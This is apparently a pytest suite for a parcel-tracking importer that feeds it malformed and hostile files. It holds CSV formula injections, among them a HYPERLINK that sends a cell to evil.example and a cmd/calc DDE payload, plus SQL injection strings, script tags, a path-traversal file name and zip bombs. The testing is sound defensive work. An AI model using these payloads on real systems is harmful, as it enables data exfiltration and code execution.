"""The bad-input corpus (issue 6): whatever a seller uploads, the importer answers in words.

Every case in tests/badinput/ (small text files committed in files/, large or binary
ones made by generated.py) is imported into a database that already holds data.
Nothing may escape as an exception; a refused file gets its catalogued message naming
the file (and the row and column where one is at fault) and leaves every table exactly
as it was; an accepted file records each value it could not use, with row, column and
reason, and stores hostile text (formulas, HTML, SQL) as plain text.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from badinput import generated
from badinput import generated_damage as damage

from lossanalytics.export import export_frame
from lossanalytics.importing import ImportResult, import_file, readers
from lossanalytics.storage.db import Database
from lossanalytics.storage.integrity import table_checksums

ROOT = Path(__file__).resolve().parent.parent
FILES = Path(__file__).parent / "badinput" / "files"
SEED = Path(__file__).parent / "fixtures" / "tracking_basic.csv"

Source = str | Callable[[Path], Path]


@dataclass(frozen=True)
class Case:
    """One upload and what the importer must say about it.

    `values` are the placeholders the message must carry (row, column, …); `rejects`
    the exact (row, column, severity, reason) rows recorded for an accepted file (None:
    not checked);
    `stored` fields of parcels that must be stored exactly so.
    """

    id: str
    source: Source
    outcome: str
    key: str | None = None
    values: dict[str, Any] = field(default_factory=dict)
    rejects: tuple[tuple[int, str, str, str], ...] | None = None
    stored: dict[str, dict[str, Any]] = field(default_factory=dict)
    rows_read: int | None = None


def failed(id: str, source: Source, key: str, **values: Any) -> Case:
    return Case(id, source, "failed", key, values)


def accepted(id: str, source: Source, **kwargs: Any) -> Case:
    return Case(id, source, "imported", **kwargs)


WARN, REJECT = "warning", "rejected"

CASES: list[Case] = [
    # Files that are no table at all.
    failed("empty", "empty.csv", "import.error.empty"),
    failed("blank lines only", "blank_lines.csv", "import.error.empty"),
    failed("byte-order mark only", "bom_only.csv", "import.error.empty"),
    failed("header only", "header_only.csv", "import.error.header_only", row=1),
    failed("header and blank rows", "header_and_blank_rows.csv", "import.error.header_only", row=1),
    failed("workbook with a header only", generated.header_only_xlsx, "import.error.header_only", row=2),
    failed("title rows only", "title_rows_only.csv", "import.error.unrecognised"),
    failed("missing tracking-number column", "missing_tracking_column.csv", "import.error.unrecognised",
           columns="Order Date, Carrier, Status, Destination Country"),
    failed("binary junk renamed .csv", generated.binary_junk, "import.error.binary"),
    failed("gzip renamed .csv", generated.gzip_csv, "import.error.compressed"),
    failed("zip of CSVs", generated.zip_of_csvs, "import.error.archive"),
    failed("PDF", "document.pdf", "import.error.pdf"),
    failed("Apple Numbers", generated.numbers_file, "import.error.numbers"),
    failed("HTML saved as .xls", "html_as.xls", "import.error.html_as_spreadsheet"),
    failed("damaged old .xls", generated.fake_xls, "import.error.bad_spreadsheet"),
    # Workbooks that are damaged, locked or hostile.
    failed("truncated XLSX", generated.truncated_xlsx, "import.error.damaged_workbook"),
    failed("corrupt XLSX", generated.corrupt_xlsx, "import.error.bad_spreadsheet"),
    failed("zip bomb XLSX", generated.zip_bomb_xlsx, "import.error.zip_bomb", size="100 MB"),
    failed("forged 4 GB XLSX", generated.declared_huge_xlsx, "import.error.zip_bomb"),
    failed("password-protected XLSX", generated.encrypted_xlsx, "import.error.encrypted"),
    failed("XLSX broken at row 1,500", generated.broken_late_xlsx, "import.error.bad_spreadsheet"),
    # Text that breaks the reader.
    failed("50 MB single line", generated.single_line_50mb, "import.error.line_too_long", row=1),
    failed("5 MB cell", generated.huge_cell, "import.error.line_too_long", row=2),
    failed("unclosed quote", "unclosed_quote.csv", "import.error.unclosed_quote", row=2, column="Last Event"),
    failed("mixed encodings", generated.mixed_encodings, "import.error.mixed_encoding", row=6),
    failed("mixed encodings past the first MB", generated.mixed_encodings_late, "import.error.mixed_encoding",
           row=40003),
    failed("UTF-8 appended to a cp1252 file", generated.utf8_appended_to_cp1252, "import.error.mixed_encoding",
           row=40002, encoding="cp1252"),
    failed("10,000 columns", generated.ten_thousand_columns, "import.error.too_many_columns", count=10000),
    failed("invalid JSON", "bad.json", "import.error.bad_json"),
    failed("JSON without records", "not_records.json", "import.error.empty"),
    failed("JSON nested 100,000 deep", generated.deep_json, "import.error.too_deep"),
    # Files that import, with what they could not use set aside.
    accepted("cp1252 text (wrong encoding guess)", "cp1252_wrong_encoding.csv", rejects=(),
             stored={"ENC1": {"carrier": "Österreichische Post", "last_event_text": "Zugestellt in München"},
                     "ENC2": {"last_event_text": "Livré à Besançon"}}),
    accepted("UTF-16 without byte-order mark", "utf16_no_bom.csv", rejects=(), stored={"U16B": {"carrier": "DHL Express"}}),
    accepted("Excel's sep= line", "excel_sep_line.csv", rejects=(), stored={"SEP2": {"status": "in_transit"}}),
    accepted("TSV saved as .xls", "tsv_as.xls", rejects=(), stored={"TSVXLS1": {"status": "delivered"}}),
    accepted("duplicate headers", "duplicate_headers.csv", rejects=(),
             stored={"DUP1": {"status": "delivered"}, "DUP2": {"status": "in_transit"}}),
    accepted("blank headers", "blank_headers.csv", rejects=(), stored={"BLANK2": {"carrier": "DHL Express"}}),
    accepted("ragged rows", "ragged_rows.csv", rejects=(), stored={"RAG2": {"status": "delivered"}, "RAG3": {"status": "unknown"}}),
    accepted("blank tracking numbers", "blank_tracking_numbers.csv",
             rejects=((3, "Tracking Number", REJECT, "reject.missing_tracking_number"),
                      (4, "Tracking Number", REJECT, "reject.missing_tracking_number"))),
    accepted("all-invalid dates", "all_invalid_dates.csv",
             rejects=tuple((row, "Ship Date", WARN, "reject.bad_date") for row in (2, 3, 4)),
             stored={"DATE2": {"ship_date": None}}),
    accepted("dates in 1900 and 2100", "dates_1900_2100.csv",
             rejects=((2, "Ship Date", WARN, "reject.bad_date"), (3, "Delivered Date", WARN, "reject.bad_date")),
             stored={"ERA1": {"ship_date": None}, "ERA2": {"delivered_date": None}}),
    accepted("unparseable and implausible values", "negative_and_absurd_values.csv",
             rejects=((2, "Declared Value", WARN, "reject.out_of_range"), (2, "Weight (kg)", WARN, "reject.out_of_range"),
                      (3, "Declared Value", WARN, "reject.bad_number"), (3, "Weight (kg)", WARN, "reject.out_of_range"),
                      (5, "Declared Value", WARN, "reject.bad_number"), (5, "Weight (kg)", WARN, "reject.bad_number")),
             stored={"NUM3": {"declared_value": 12.5, "weight_kg": 0.4}, "NUM4": {"weight_kg": None}}),
    accepted("negative and absurd values in text", "negative_and_absurd_values.csv",
             stored={"NUM1": {"declared_value": None, "weight_kg": None}, "NUM2": {"weight_kg": None}}),
    accepted("negative and absurd values in a workbook", generated.negative_weights_xlsx,
             stored={"XN1": {"declared_value": None, "weight_kg": None},
                     "XN2": {"declared_value": None, "weight_kg": None}, "XN3": {"weight_kg": 0.4}}),
    accepted("unknown words", "unknown_words.csv",
             rejects=((2, "Currency", WARN, "reject.unknown_currency"),
                      (2, "Destination Country", WARN, "reject.unknown_country"),
                      (2, "Status", WARN, "reject.unknown_status"))),
    accepted("formulas", "formulas.csv", rejects=(),
             stored={"FORM1": {"carrier_raw": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                               "last_event_text": "=1+1"},
                     "FORM2": {"carrier_raw": "+cmd|' /C calc'!A0", "last_event_text": "@SUM(A1:A9)"}}),
    accepted("formulas in a workbook", generated.formula_xlsx,
             rejects=((3, "Tracking Number", REJECT, "reject.missing_tracking_number"),),
             stored={"XF3": {"last_event_text": "+cmd|' /C calc'!A0"}}),
    accepted("HTML and script tags", "html_script.csv", rejects=(),
             stored={"HTML1": {"carrier_raw": "<b>UPS</b>", "last_event_text": "<script>alert('x')</script>"},
                     "HTML2": {"last_event_text": '<a href="javascript:alert(1)">track</a>'}}),
    accepted("SQL-looking header and values", "sql_injection.csv", rejects=(),
             stored={"';DROPTABLEPARCELS;--": {"status": "delivered"},
                     "SQL2": {"carrier_raw": "Robert'); DELETE FROM imports;--"}}),
    accepted("emoji and right-to-left text", "emoji_rtl.csv",
             rejects=(),
             stored={"EMOJI1📦": {"carrier_raw": "UPS 🚚", "last_event_text": "Delivered ✅ 👍🏽", "dest_country": "US"},
                     "RTL1": {"carrier_raw": "أرامكس", "last_event_text": "تم التسليم \u202eevil\u202c",
                              "dest_country": "AE"}}),
    accepted("control characters", "control_chars.csv", rejects=(), stored={"CTRL1": {"last_event_text": "\x1b[31mred\x1b[0m\x07"}}),
    accepted("line breaks inside quoted cells", "multiline_cells.csv", rejects=(), rows_read=3,
             stored={"ML2": {"carrier": "FedEx"}, "ML3": {"carrier": "Unknown"}}),
    accepted("200 KB cell", generated.big_cell, rejects=((2, "Status", WARN, "reject.unknown_status"),)),
    accepted("NUL byte in a cell", generated.nul_in_text, rejects=(), rows_read=301),
    accepted("1,000,000 duplicate rows", generated.million_duplicate_rows, rejects=(), rows_read=1_000_000,
             stored={"DUPE1": {"status": "in_transit", "dest_country": "US"}}),
    # Wrong data that used to get in without a word (issue 15).
    accepted("tracking numbers in scientific notation", "excel_scientific_tracking.csv",
             rejects=((2, "Tracking Number", REJECT, "reject.damaged_tracking_number"),
                      (3, "Tracking Number", REJECT, "reject.damaged_tracking_number"),
                      (4, "Tracking Number", REJECT, "reject.damaged_tracking_number"),
                      (6, "Tracking Number", REJECT, "reject.damaged_tracking_number"),
                      # The seeded tracking export delivered 1Z999AA10123456784 on 2026-10-05: this row's later
                      # ship date, merged with it, puts the delivery before the shipping.
                      (7, "Ship Date", WARN, "reject.merged_shipped_after_delivered")),
             stored={"123456789012": {"carrier": "DHL Express"}, "1Z999AA10123456784": {"declared_value": 4.0}}),
    accepted("tracking numbers stored as numbers in a workbook", damage.float_tracking_xlsx,
             rejects=((3, "Tracking Number", REJECT, "reject.damaged_tracking_number"),
                      (4, "Tracking Number", REJECT, "reject.damaged_tracking_number"),
                      (6, "Tracking Number", REJECT, "reject.damaged_tracking_number")),
             stored={"123456789012": {"carrier": "FedEx"}, "9400111899223197428490": {"status": "delivered"}}),
    accepted("day and month order mixed in a column", "day_month_order.csv",
             rejects=((5, "Delivered Date", WARN, "reject.date_order"), (5, "Ship Date", WARN, "reject.date_order")),
             stored={"DM1": {"ship_date": datetime(2026, 4, 3), "delivered_date": datetime(2026, 4, 5)},
                     "DM2": {"ship_date": datetime(2026, 4, 13)}, "DM4": {"ship_date": None},
                     "DM5": {"ship_date": datetime(2026, 11, 10)}}),
    accepted("header repeated in the middle", "repeated_header.csv",
             rejects=((4, "Tracking Number", REJECT, "reject.repeated_header"),
                      (6, "Tracking Number", REJECT, "reject.repeated_header")),
             rows_read=6, stored={"RH3": {"carrier": "FedEx"}, "RH4": {"status": "delivered"}}),
    *(accepted(f"{label} text", make, rejects=(), rows_read=3,
               stored={f"{stem.upper()}1": {"carrier_raw": damage.LEGACY_TEXTS[stem][1],
                                             "last_event_text": damage.LEGACY_TEXTS[stem][2]}})
      for label, stem, make in (("Big5", "big5", damage.big5_csv), ("Shift_JIS", "shift_jis", damage.shift_jis_csv),
                                ("EUC-KR", "euc_kr", damage.euc_kr_csv), ("Windows-1250", "cp1250", damage.cp1250_csv),
                                ("Windows-1251", "cp1251", damage.cp1251_csv))),
    *(accepted(f"UTF-16 {order} without byte-order mark, Chinese", make, rejects=(), rows_read=2,
               stored={"U16C1": {"carrier_raw": "顺丰速运", "last_event_text": "深圳市南山区科技园 已签收"},
                       "U16C2": {"carrier_raw": "中国邮政", "last_event_text": "广州国际邮件互换局 已出口"}})
      for order, make in (("LE", damage.utf16le_cjk_csv), ("BE", damage.utf16be_cjk_csv))),
    accepted("UTF-8 byte-order mark before UTF-16 text", damage.utf8_bom_then_utf16, rejects=(), rows_read=2,
             stored={"BOM16A": {"carrier": "DHL Express"}, "BOM16B": {"status": "in_transit"}}),
    accepted("hidden first sheet", damage.hidden_first_sheet_xlsx, rejects=(), rows_read=1,
             stored={"SHOWN1": {"carrier": "DHL Express"}}),
    accepted("very hidden first sheet", damage.very_hidden_first_sheet_xlsx, rejects=(), rows_read=1,
             stored={"SHOWN1": {"status": "delivered"}}),
    accepted("JSON records wrapped in objects", "wrapped_shipments.json", rejects=(), rows_read=2,
             stored={"WRAP1": {"carrier": "UPS"}, "WRAP2": {"status": "cancelled"}}),
    accepted("JSON records beside metadata", "records_beside_metadata.json", rejects=(), rows_read=2,
             stored={"META1": {"status": "delivered"}, "META2": {"carrier": "UPS"}}),
]


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database file that already holds an import, so "unchanged" means something."""
    path = tmp_path_factory.mktemp("seed") / "seed.duckdb"
    database = Database(path)
    assert import_file(database, SEED).outcome == "imported"
    database.close()
    return path


def _source(case: Case, folder: Path) -> Path:
    return FILES / case.source if isinstance(case.source, str) else case.source(folder)


def _parcel(db: Database, key: str) -> dict[str, Any]:
    rows = db.query("SELECT * FROM parcels WHERE tracking_number = $key", {"key": key}).to_pylist()
    assert rows, f"parcel {key!r} was not stored"
    return rows[0]


def _rejects(db: Database, result: ImportResult) -> tuple[tuple[int, str, str, str], ...]:
    rows = db.query(
        "SELECT source_row, column_name, severity, reason FROM rejects WHERE import_id = $id "
        "ORDER BY source_row, column_name",
        {"id": result.import_id},
    ).to_pylist()
    return tuple(tuple(row.values()) for row in rows)


@pytest.mark.parametrize("case", [pytest.param(case, id=case.id) for case in CASES])
def test_bad_input(case: Case, seeded: Path, tmp_path: Path) -> None:
    shutil.copy(seeded, tmp_path / "db.duckdb")
    db = Database(tmp_path / "db.duckdb")
    try:
        path = _source(case, tmp_path)
        upload_name = f"upload-{path.name}"
        before = table_checksums(db)
        result = import_file(db, path, file_name=upload_name)  # nothing may escape
        assert result.outcome == case.outcome, result.problem and result.problem.message("en")
        if case.outcome == "failed":
            _check_failure(case, result, upload_name)
            assert table_checksums(db) == before
        else:
            _check_accepted(case, result, db)
    finally:
        db.close()


def _check_failure(case: Case, result: ImportResult, upload_name: str) -> None:
    problem = result.problem
    assert problem is not None and problem.key == case.key, problem and problem.key
    for name, value in case.values.items():
        assert problem.values[name] == value
    for lang in ("en", "zh"):
        message = problem.message(lang)
        assert upload_name in message
        for name in ("row", "column"):
            if name in case.values:
                assert str(case.values[name]) in message
        assert "Traceback" not in message


def _check_accepted(case: Case, result: ImportResult, db: Database) -> None:
    if case.rejects is not None:
        assert _rejects(db, result) == case.rejects
        assert result.rows_rejected == sum(1 for r in case.rejects if r[2] == REJECT)
    if case.rows_read is not None:
        assert result.rows_read == case.rows_read
    # Nothing silently dropped: every row read is stored, or recorded as rejected.
    stored = db.scalar("SELECT count(*) FROM parcel_rows WHERE import_id = $id", {"id": result.import_id})
    assert stored + result.rows_rejected == result.rows_read
    for key, fields in case.stored.items():
        parcel = _parcel(db, key)
        assert {name: parcel[name] for name in fields} == fields


def test_rejects_name_file_row_and_column(seeded: Path, tmp_path: Path) -> None:
    """Row-level problems are kept with their row, column, raw value and reason."""
    db = Database(shutil.copy(seeded, tmp_path / "db.duckdb"))
    result = import_file(db, FILES / "dates_1900_2100.csv", file_name="eras.csv")
    rows = db.query(
        "SELECT r.source_row, r.column_name, r.value, r.reason, i.file_name FROM rejects r "
        "JOIN imports i ON i.id = r.import_id WHERE r.import_id = $id ORDER BY 1",
        {"id": result.import_id},
    ).to_pylist()
    db.close()
    assert [tuple(r.values()) for r in rows] == [
        (2, "Ship Date", "1900-01-01", "reject.bad_date", "eras.csv"),
        (3, "Delivered Date", "2100-06-01", "reject.bad_date", "eras.csv"),
    ]


def test_formulas_and_html_are_neutralised_on_export(seeded: Path, tmp_path: Path) -> None:
    db = Database(shutil.copy(seeded, tmp_path / "db.duckdb"))
    for name in ("formulas.csv", "html_script.csv"):
        assert import_file(db, FILES / name).outcome == "imported"
    frame = db.query_df("SELECT * FROM parcels WHERE tracking_number LIKE 'FORM%' OR tracking_number LIKE 'HTML%'")
    db.close()
    out = export_frame(frame, ["tracking_number", "carrier", "last_event_text"], "en")
    cells = [str(v) for v in out.to_numpy().ravel()]
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells and "<script>alert('x')</script>" in cells


def test_zip_bomb_is_refused_before_inflating(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = generated.zip_bomb_xlsx(tmp_path)
    assert bomb.stat().st_size < 1 << 20
    db = Database(tmp_path / "db.duckdb")

    def inflate(*args: object, **kwargs: object) -> None:
        raise AssertionError("a member of the archive was opened before the refusal")

    # Only the archive's directory may be read: opening a member is where inflating starts.
    monkeypatch.setattr(zipfile.ZipFile, "open", inflate)
    result = import_file(db, bomb)
    db.close()
    assert result.problem is not None and result.problem.key == "import.error.zip_bomb"


def test_a_header_too_wide_is_refused_before_its_columns_are_matched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wide = generated.ten_thousand_columns(tmp_path)
    db = Database(tmp_path / "db.duckdb")
    matched: list[object] = []
    monkeypatch.setattr(readers, "find_header", lambda *args: matched.append(args))
    result = import_file(db, wide)
    db.close()
    assert result.problem is not None and result.problem.key == "import.error.too_many_columns"
    assert result.problem.values["count"] == 10000
    assert matched == []


def test_upload_name_never_becomes_a_path(tmp_path: Path) -> None:
    db = Database(tmp_path / "db.duckdb")
    name = "../../../../tmp/evil\x00.csv"
    result = import_file(db, FILES / "formulas.csv", file_name=name)
    stored = db.scalar("SELECT file_name FROM imports WHERE id = $id", {"id": result.import_id})
    db.close()
    assert result.outcome == "imported" and stored == name
    assert not Path("/tmp/evil").exists()


CLI_CASES = [
    ("empty.csv", None, "is empty"),
    ("document.pdf", None, "PDF"),
    ("unclosed_quote.csv", None, "row 2, column Last Event"),
    (None, generated.zip_bomb_xlsx, "would unpack to"),
    (None, generated.encrypted_xlsx, "password"),
    (None, generated.deep_json, "nested too deeply"),
]


@pytest.mark.parametrize(("name", "make", "expected"), CLI_CASES, ids=[c[2] for c in CLI_CASES])
def test_cli_reports_without_traceback(name: str | None, make: Any, expected: str, tmp_path: Path) -> None:
    path = FILES / name if name else make(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    run = subprocess.run(
        [sys.executable, "-m", "lossanalytics", "--db", str(tmp_path / "cli.duckdb"), "import", str(path)],
        check=False, capture_output=True, text=True, cwd=ROOT, env=env, timeout=120,
    )
    assert run.returncode != 0
    assert "Traceback" not in run.stderr + run.stdout
    assert expected in run.stderr
    assert path.name in run.stderr


def test_cli_accepts_a_file_with_rejects(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    run = subprocess.run(
        [sys.executable, "-m", "lossanalytics", "--db", str(tmp_path / "cli.duckdb"), "import",
         str(FILES / "blank_tracking_numbers.csv")],
        check=False, capture_output=True, text=True, cwd=ROOT, env=env, timeout=120,
    )
    assert run.returncode == 0 and "Traceback" not in run.stderr
    assert "rejected 2" in run.stdout


def test_corpus_is_large_enough() -> None:
    assert len(CASES) >= 30
    assert len({case.id for case in CASES}) == len(CASES)
